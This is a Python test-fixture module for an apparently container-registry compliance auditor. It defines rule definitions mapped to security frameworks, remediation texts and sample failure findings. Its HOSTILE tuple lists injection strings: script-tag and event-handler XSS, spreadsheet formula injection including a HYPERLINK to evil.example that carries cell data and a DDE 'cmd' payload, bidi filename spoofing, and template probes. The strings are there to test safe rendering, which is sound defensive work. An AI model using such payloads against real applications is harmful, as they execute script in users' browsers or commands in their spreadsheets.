"""Texts of the results that the factory builds: rules of the catalogue, and what strangers may write."""

from __future__ import annotations

from typing import Any

HOSTILE = (
    "<script>window.pwned=1</script>",
    "</script><img src=x onerror=window.pwned=1>",
    "</style><svg onload=window.pwned=1>",
    "\"'><b onmouseover=window.pwned=1>x</b>",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "safe\u202egnp.exe\u2066x\u2069",
    "nul\x00esc\x1b[31mred\x07",
    "zero\u200bwidth\ufeff\u00ad",
    "not a character \uffff\ufffe",
    "line\nbreak\r\nand\u2028more",
    "| pipe | ``` fence `tick` **bold** [link](javascript:alert(1)) @octocat #1 https://evil.example www.evil.example",
    "{{ 7*7 }}{% raw %}${7*7}]]><!--",
    "𝔘nicode ﷽ émoji 🙂 العربية",
)
"""Texts that strangers might write into tags, labels and policies."""

# id, severity, entity, title, group, remediation mode, frameworks, low confidence
RULES: tuple[tuple[str, str, str, str, str, str, dict[str, list[str]], list[str]], ...] = (
    ("REG-VUL-001", "critical", "image", "Have no critical vulnerability in any image", "vulnerabilities", "manual",
     {"nist-800-190": ["4.1.1"], "nist-800-53r5": ["RA-5", "SI-2"], "pci-dss-4": ["6.3.1", "6.3.3", "11.3.1"],
      "soc2": ["CC7.1"], "iso-27001-2022": ["A.8.8"], "essential-8": ["E8-1.5"]}, ["essential-8:E8-1.5"]),
    ("REG-ACC-001", "critical", "repository", "Never grant repository access to every principal", "access", "confirm",
     {"nist-800-53r5": ["AC-3", "AC-6", "AC-22"], "soc2": ["CC6.1"], "nist-800-190": ["4.2.3"]}, []),
    ("REG-VUL-002", "high", "image", "Have no high vulnerability above the limit", "vulnerabilities", "manual",
     {"nist-800-190": ["4.1.1"], "nist-800-53r5": ["RA-5", "SI-2"], "pci-dss-4": ["6.3.3"]}, []),
    ("REG-SIG-001", "high", "image", "Sign every release image", "signing", "manual",
     {"nist-800-190": ["4.1.5"], "nist-800-53r5": ["CM-14"], "slsa": ["distribution"]}, ["slsa:distribution"]),
    ("REG-SCN-001", "high", "repository", "Scan every repository on push or continuously", "scanning", "auto",
     {"aws-fsbp": ["ECR.1"], "nist-800-190": ["4.1.1"], "nist-800-53r5": ["RA-5"]}, []),
    ("REG-ACC-003", "high", "repository", "Limit cross-account access to trusted accounts and organisations", "access",
     "confirm", {"nist-800-53r5": ["AC-3", "AC-4"], "soc2": ["CC6.1", "CC6.3"]}, []),
    ("REG-IMM-001", "medium", "repository", "Make image tags immutable in every repository", "immutability", "confirm",
     {"aws-fsbp": ["ECR.2"], "nist-800-190": ["4.1.5"], "nist-800-53r5": ["CM-2", "CM-8(1)", "SI-7"],
      "soc2": ["CC8.1"], "pci-dss-4": ["6.5.1"]}, ["nist-800-190:4.1.5", "pci-dss-4:6.5.1"]),
    ("REG-RET-001", "medium", "repository", "Configure a retention policy on every repository", "retention", "confirm",
     {"aws-fsbp": ["ECR.3"], "nist-800-190": ["4.2.2"], "nist-800-53r5": ["CM-2", "SI-12"], "soc2": ["C1.2"]},
     ["soc2:C1.2"]),
    ("REG-ENC-001", "medium", "repository", "Encrypt repositories with a customer-managed key", "encryption", "manual",
     {"aws-fsbp": ["ECR.5"], "nist-800-53r5": ["SC-12", "SC-28"], "pci-dss-4": ["3.5.1"]}, []),
    ("REG-TAG-001", "medium", "repository", "Keep the latest tag out of production repositories", "tags", "confirm",
     {"nist-800-190": ["4.2.2"], "nist-800-53r5": ["CM-2"], "soc2": ["CC8.1"]}, []),
    ("REG-TAG-002", "low", "image", "Give release images a version tag", "tags", "confirm",
     {"nist-800-53r5": ["CM-2", "CM-8"]}, []),
    ("REG-TAG-004", "low", "repository", "Put the required resource tags on every repository", "tags", "auto",
     {"aws-fsbp": ["ECR.4"], "nist-800-53r5": ["CM-8"]}, []),
    ("REG-TAG-003", "info", "image", "Label images with source, revision, version and creation time", "tags", "manual",
     {"nist-800-53r5": ["CM-8"]}, []),
    ("REG-REP-001", "medium", "repository", "Replicate production repositories to another region", "replication",
     "confirm", {"nist-800-53r5": ["CP-6", "CP-9"]}, []),
)  # fmt: skip

FIX = {
    "auto": "The auditor can set this without breaking a pull or a push: auditor remediate plan shows the call.",
    "confirm": "Review the plan of auditor remediate plan first: pipelines that push a tag again stop.",
    "manual": "Rebuild on a patched base image, deploy the new digest,\nthen remove the old image when it is unused.",
}

TEAMS = ("payments", "identity", "search", "platform", "checkout", "mobile", "data", "edge")
APPS = (
    "api",
    "worker",
    "gateway",
    "web",
    "migrations",
    "cron",
    "proxy",
    "ingest",
    "exporter",
    "admin-console",
)

FAILS: dict[str, tuple[str, str, Any]] = {
    "REG-VUL-001": ("{n} critical vulnerabilities: CVE-2026-{c} in openssl 3.0.{m} (fixed in 3.0.18).",
                    "/images/value/{m}/scan/value/counts/value/CRITICAL", 2),
    "REG-VUL-002": ("{n} high vulnerabilities, {m} of them fixable: CVE-2026-{c} in zlib 1.2.{m}.",
                    "/images/value/{m}/scan/value/counts/value/HIGH", 7),
    "REG-ACC-001": ("Statement AllowPull lets every principal pull.", "/repository/access_policy/value/Statement/0",
                    {"Effect": "Allow", "Principal": "*", "Action": ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
                     "Sid": "AllowPull"}),
    "REG-ACC-003": ("Account 999988887777 may push, and is not trusted.", "/derived/access/value/grants/1",
                    {"account": "999988887777", "actions": ["push"]}),
    "REG-SIG-001": ("No signature was found for this release image.", "/images/value/{m}/signatures", []),
    "REG-SCN-001": ("Images are not scanned when they are pushed.", "/repository/scan_on_push/value", False),
    "REG-IMM-001": ("Tags can be overwritten.", "/repository/immutability/value/mode", "none"),
    "REG-RET-001": ("No retention policy is set.", "/repository/retention_policy",
                    {"state": "absent", "source": "ecr:GetLifecyclePolicy", "code": "NotFoundException"}),
    "REG-ENC-001": ("The platform's own key encrypts this repository.", "/repository/encryption/value/type",
                    "platform"),
    "REG-TAG-001": ("The production repository has the tag latest.", "/images/value/{m}/tags", ["latest", "v1.{m}.0"]),
    "REG-TAG-002": ("None of the tags is a version: build-{c}.", "/images/value/{m}/tags", ["build-{c}"]),
    "REG-TAG-003": ("The label org.opencontainers.image.revision is missing.", "/images/value/{m}/labels", {}),
    "REG-TAG-004": ("The resource tags cost-centre and owner are missing.", "/repository/resource_tags/value",
                    {"Name": "app"}),
    "REG-REP-001": ("No replication rule takes this repository to another region.", "/context/registry/replication",
                    []),
}  # fmt: skip
